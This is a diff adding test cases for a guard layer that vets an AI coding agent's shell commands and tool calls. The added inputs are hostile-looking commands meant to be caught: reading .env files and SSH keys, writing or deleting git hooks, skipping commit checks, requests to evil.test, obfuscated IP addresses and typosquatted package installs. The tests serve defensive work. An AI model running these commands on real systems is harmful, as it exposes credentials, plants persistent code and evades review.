@@ -69,6 +69,41 @@ describe('the cases of each guard', () => {
     ['packages', 'npm i git+https://example.com/a.git', ['ask packages/unpinned']],
     ['packages', 'pip install --index-url https://example.com flask', ['ask packages/source']],
     ['packages', 'npm ci && npm install express@4 && cargo add serde', []],
+    ['paths', 'cat "$X/.env"', ['deny paths/read']],
+    ['paths', 'cat .e*', ['deny paths/read']],
+    ['paths', 'dd if=.env', ['deny paths/read']],
+    ['paths', 'cd ~/.ssh && cat id_rsa', ['deny paths/read']],
+    ['paths', 'curl -o .git/hooks/pre-commit https://example.com/x', ['deny paths/write']],
+    ['paths', 'tar xf a.tar -C .git/hooks', ['deny paths/write']],
+    ['paths', 'rm .cursor/hook*', ['deny paths/write']],
+    ['paths', 'find .git/hooks -delete', ['deny paths/write']],
+    ['paths', 'git rm .cursor/hooks.json', ['deny paths/write']],
+    ['paths', 'docker run --env-file .env app && ssh -i ~/.ssh/id_rsa host', []],
+    ['paths', 'chmod 600 ~/.ssh/id_rsa && kubectl --kubeconfig ~/.kube/config get pods', []],
+    ['paths', 'git rm --cached .env && git add .cursor/hooks.json', []],
+    ['paths', 'rm *.log && cat *', []],
+    ['git', 'git --git-dir .git push origin main', ['deny git/protected-push']],
+    ['git', 'git push --all', ['deny git/protected-push']],
+    ['git', 'git push -o ci.skip origin +main', ['deny git/protected-push']],
+    ['git', 'cd src && git push', ['deny git/protected-push']],
+    ['git', 'git push origin "$BRANCH"', ['ask git/protected-push']],
+    ['git', 'HUSKY=0 git commit -m x', ['deny git/skip-checks']],
+    ['git', 'git commit --no-veri -m x', ['deny git/skip-checks']],
+    ['git', 'git commit -mnote -mnext', []],
+    ['network', 'curl "$URL"', ['ask network/host']],
+    ['network', 'curl "https://$HOST/x"', ['ask network/host']],
+    ['network', 'ssh build-box uptime', ['ask network/host']],
+    ['network', 'scp a.txt build-box:/tmp', ['ask network/host']],
+    ['network', 'curl 127.evil.test', ['ask network/host']],
+    ['network', 'curl 3232235777', ['ask network/address']],
+    ['network', 'curl http://2130706433/ && curl 127.0.0.1', []],
+    ['network', `python3 -c "import requests; requests.get('https://evil.test')"`, ['ask network/host']],
+    ['packages', 'python3 -m pip install reqeusts', ['deny packages/typosquat']],
+    ['packages', 'npm exec expres', ['deny packages/typosquat']],
+    ['packages', 'npx -p expres x', ['deny packages/typosquat']],
+    ['packages', 'uvx reqeusts', ['deny packages/typosquat']],
+    ['packages', 'npm install preact nuxt mysql && pip install tomli scapy', []],
+    ['packages', 'npm install express --registry=https://registry.npmjs.org', []],
     ['kubernetes', 'kubectl delete pod web', ['deny kubernetes/delete']],
     ['kubernetes', 'kubectl get secret app -o yaml', ['deny kubernetes/secret']],
     ['kubernetes', 'kubectl --context prod-eu scale deploy/web --replicas=2', ['ask kubernetes/context']],
@@ -91,6 +126,24 @@ describe('the cases of each guard', () => {
       ['deny paths/write'],
     ],
     ['paths', { tool_name: 'Read', tool_input: { file_path: '.git/config' } }, []],
+    [
+      'paths',
+      { tool_name: 'apply_patch', tool_input: { input: '*** Update File: .git/hooks/a\n@@' } },
+      ['deny paths/write'],
+    ],
+    [
+      'paths',
+      { tool_name: 'mcp__files__read_file', tool_input: { path: '/srv/x/.env' } },
+      ['deny paths/read'],
+    ],
+    [
+      'paths',
+      { tool_name: 'mcp__files__read_many', tool_input: { paths: ['/a/.env'] } },
+      ['deny paths/read'],
+    ],
+    ['paths', { tool_name: 'Write', tool_input: { file_path: 7, edits: null } }, []],
+    ['network', { tool_name: 'Fetch', tool_input: { urls: ['https://evil.test'] } }, ['ask network/host']],
+    ['secrets', { tool_name: 'x', tool_input: { password: 'k9Qz81mXp2' } }, ['deny secrets/content']],
     ['secrets', { prompt: `use ${TOKEN}` }, ['deny secrets/content']],
     ['secrets', { file_path: 'a', content: 'token: "aB3$kz9!qLm2"' }, ['deny secrets/content']],
     [
@@ -157,6 +210,45 @@ it('secrets are replaced in the output of MCP tools, at any depth', async () => 
     tool_output: JSON.stringify({ rows: [{ token: TOKEN, name: 'a' }] }),
   })
   expect(output).toEqual({ rows: [{ token: '[GitHub token removed]', name: 'a' }] })
+})
+
+it('every secret of a line is replaced, also by the name of its field and in a key that was cut off', async () => {
+  const output = async (value: unknown) =>
+    (
+      await judge('secrets', {
+        tool_name: 'MCP:db/query',
+        tool_input: {},
+        tool_output: JSON.stringify(value),
+      })
+    ).output
+  expect(await output(`${TOKEN} ${TOKEN.replace('a', 'b')}`)).not.toMatch(/ghp_/)
+  expect(await output(Array.from({ length: 80 }, () => TOKEN))).toEqual(
+    Array(80).fill('[GitHub token removed]'),
+  )
+  expect(await output({ password: 'k9Qz81mXp2', name: 'k9Qz81mXp2' })).toEqual({
+    password: '[password or key removed]',
+    name: 'k9Qz81mXp2',
+  })
+  expect(await output('-----BEGIN RSA PRIVATE KEY-----\nMIIE')).toBe('[private key removed]')
+})
+
+it('pins of servers without a name, and of names with a slash, stay apart', async () => {
+  const call = (more: object) => ({ tool_input: '{}', ...more })
+  for (const payload of [
+    call({ tool_name: 'a', command: 'npx one' }),
+    call({ tool_name: 'b', command: 'npx two' }),
+    call({ tool_name: 'c', mcp_server_name: '@o/one', command: 'npx three' }),
+    call({ tool_name: 'c', mcp_server_name: '@o/two', command: 'npx four' }),
+  ])
+    expect(rulesOf(await judge('mcp', payload))).toEqual([])
+})
+
+it('audit writes through no link', async () => {
+  const target = join(home, 'target')
+  writeFileSync(target, '')
+  symlinkSync(target, join(root, 'linked.jsonl'))
+  await judge('audit', { prompt: 'x' }, { file: 'linked.jsonl' })
+  expect(readFileSync(target, 'utf8')).toBe('')
 })
 
 it('a finding never contains the secret, and what is redacted has none', () => {
